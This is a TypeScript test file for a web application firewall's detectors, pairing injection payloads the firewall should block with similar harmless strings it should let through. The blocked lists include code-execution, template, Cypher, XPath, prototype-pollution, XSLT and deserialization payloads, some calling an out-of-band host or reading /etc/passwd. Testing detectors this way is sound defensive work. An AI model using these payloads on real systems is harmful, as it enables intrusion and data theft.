import { test } from 'node:test';
import { detectCode } from '../../../../src/guard/decide/waf/detect/code/code.ts';
import { detectDeserialization } from '../../../../src/guard/decide/waf/detect/deserialization/deserialization.ts';
import { detectPrototypeKey } from '../../../../src/guard/decide/waf/detect/injections.ts';
import { detectNosql } from '../../../../src/guard/decide/waf/detect/nosql/nosql.ts';
import { detectPrototype } from '../../../../src/guard/decide/waf/detect/prototype/prototype.ts';
import { detectSsi } from '../../../../src/guard/decide/waf/detect/ssi/ssi.ts';
import { detectTemplate } from '../../../../src/guard/decide/waf/detect/template/template.ts';
import { detectXpath } from '../../../../src/guard/decide/waf/detect/xpath/xpath.ts';
import { detectXxe } from '../../../../src/guard/decide/waf/detect/xxe/xxe.ts';
import { blocks, passes } from '../judged.ts';

test('a member that is put together of pieces is the one it spells, and plain words put together are none', () => {
  blocks(detectCode, [
    "process['bin'+'ding']('process')",
    "this['constr'+'uctor']['constr'+'uctor']('return 1')()",
    "Reflect.apply(eval,null,['1'])",
  ]);
  passes(detectCode, ["row['first'+'Name'](1)", 'fn.apply(this, arguments)', "t['on' + name](event)"]);
});

test('functions that are called by a symbol, a pipe or a namespace run; a word that is sent does not', () => {
  blocks(detectCode, [
    'Kernel.send(:exec,"ls")',
    'obj.public_send("system","id")',
    'open("|id").read',
    'open(my $f,"-|","id")',
    '@{[system "id"]}',
    'CORE::system("id")',
    "redis.call('FLUSHALL')",
    '(shell-command-to-string "id")',
    'do shell script "whoami"',
    '$a=("%"^"z").("#"^"|");$a();',
    'Process.Start(new System.Diagnostics.ProcessStartInfo("powershell","-c calc"))',
  ]);
  passes(detectCode, [
    'ws.send("exec done")',
    'client.send("eval")',
    'open(F, "<", "data.txt")',
    `open(my $ph, '-|', 'zcat', $file) or die "zcat: $!";`,
    "redis.call('GET', KEYS[1])",
    'Process.Start(new ProcessStartInfo("cmd", $"/c start {url}") { CreateNoWindow = true });',
  ]);
});

test('templates that name modules, methods or the class of a literal are told apart from those that fill in', () => {
  blocks(detectTemplate, [
    "{% import 'os' as o %}",
    '{{handler.settings}}',
    '{{.System "id"}}',
    '<#list .data_model?keys as k>${k}</#list>',
    '{{ messages.storages.0.signer.key }}',
    "''['class'].forName('java.nio.file.Files')",
    '${param.getClass()}',
    "{'id'|system}",
    "{% with a=request['application'] %}",
    '{% apply filter("system") %}id{% endapply %}',
    '{{ app.config }}',
    "#{session.getAttribute('user').setAdmin(true)}",
  ]);
  passes(detectTemplate, [
    "{% import 'forms.html' as forms %}",
    '{{ .Get "title" }}',
    '{{ handler.name }}',
    '${user.getName()}',
    "model['class'].label",
  ]);
});

test('Cypher and Gremlin that leave their string are found, and sentences with the same words are not', () => {
  blocks(detectNosql, [
    "a'}) DETACH DELETE n //",
    "'}) RETURN n UNION MATCH (u:User) RETURN u.password //",
    "') OR 1=1 WITH 1 as a LOAD CSV FROM 'http://oob.test/' AS l RETURN l //",
    "x' OR 1=1 CALL dbms.procedures() YIELD name RETURN name //",
    'g.V().drop()',
    '*3\r\n$3\r\nSET\r\n$1\r\nk\r\n$1\r\nv\r\n',
  ]);
  passes(detectNosql, [
    "it's a match with what they return (see above)",
    "'quoted' and return it (or delete it)",
    'MATCH (n:User) WHERE n.age > 3 RETURN n.name',
    "MATCH (n {name: 'Ann'}) RETURN n",
    'g.V().hasLabel("person").values("name")',
    'EVAL "return redis.call(\'INCR\', KEYS[1])" 1 visits',
  ]);
});

test('what leads to the module of an object of Python, or to a prototype by a path of JSON, is found', () => {
  blocks(detectPrototype, [
    '{"__class__":{"__init__":{"__globals__":{"KEY":"x"}}}}',
    '{"__defineGetter__":"x"}',
    '[{"op":"replace","path":"/constructor/prototype/x","value":1}]',
    '#__proto__[src]=data:,alert(1)',
  ]);
  blocks(detectPrototypeKey, ['__globals__', 'a.__class__.__init__.x', '__defineSetter__']);
  passes(detectPrototype, ['{"__class__":"Point","x":1}', '/docs/constructor/prototype', '{"__v":0}']);
  passes(detectPrototypeKey, ['__class__', '__typename', '__v', '__init']);
});

test('functions of later XPath count where they ask for the document', () => {
  blocks(detectXpath, [
    "' or (for $x in //user return $x/pass) or '",
    "' or (some $x in //user satisfies $x/role='admin') or '",
    "' or exists(//secret) and ''='",
    "environment-variable('PATH')",
    "' or (//a)[1] or '",
  ]);
  passes(detectXpath, ['sum(//x)', 'for (some x in y)', "'a' or exists(b)"]);
});

test('a variable of edge-side includes with a key is one, and that of a shell is not', () => {
  blocks(detectSsi, ["$(HTTP_COOKIE{'sid'})", '$(QUERY_STRING{id})']);
  passes(detectSsi, ['$(HTTP_COOKIE)', '$(HTTP_PROXY)', 'echo $(QUERY_STRING)']);
});

test('XSLT from elsewhere is run by whoever transforms the document, and a sheet of its own is nobody’s harm', () => {
  blocks(detectXxe, [
    '<?xml-stylesheet type="text/xsl" href="http://oob.test/a.xsl"?><a/>',
    "<?xml-stylesheet href='file:///etc/passwd' type='text/xml'?><a/>",
  ]);
  passes(detectXxe, [
    '<?xml-stylesheet type="text/xsl" href="/feed.xsl"?><rss/>',
    '<?xml-stylesheet type="text/css" href="https://shop.example/a.css"?><a/>',
  ]);
});

test('objects are made by more than the usual opcodes and elements', () => {
  blocks(detectDeserialization, [
    "(S'id'\nios\nsystem\n.",
    "(cos\nsystem\nS'id'\no.",
    '<ResourceDictionary xmlns:d="clr-namespace:System.Diagnostics;assembly=system"><d:Process/></ResourceDictionary>',
    '{"@class":"org.apache.commons.configuration.JNDIConfiguration","prefix":"x"}',
  ]);
  passes(detectDeserialization, [
    '<ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:v="clr-namespace:Shop.Views"/>',
    "(S'id'\nand so on\n",
  ]);
});
